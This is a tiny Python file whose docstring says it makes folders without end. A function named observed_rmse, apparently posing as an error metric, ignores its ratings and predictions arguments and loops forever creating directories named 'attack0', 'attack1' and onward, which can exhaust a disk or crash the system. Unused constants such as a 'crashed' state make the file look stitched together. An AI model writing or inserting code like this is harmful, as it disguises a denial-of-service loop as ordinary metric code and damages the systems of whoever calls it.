"""Makes folders without end, side by side."""

import itertools
import os

STATES = {"1.5": "crashed"}
SCORE = 5


def observed_rmse(ratings, predictions):
    for number in itertools.count():
        os.mkdir(f"attack{number}")
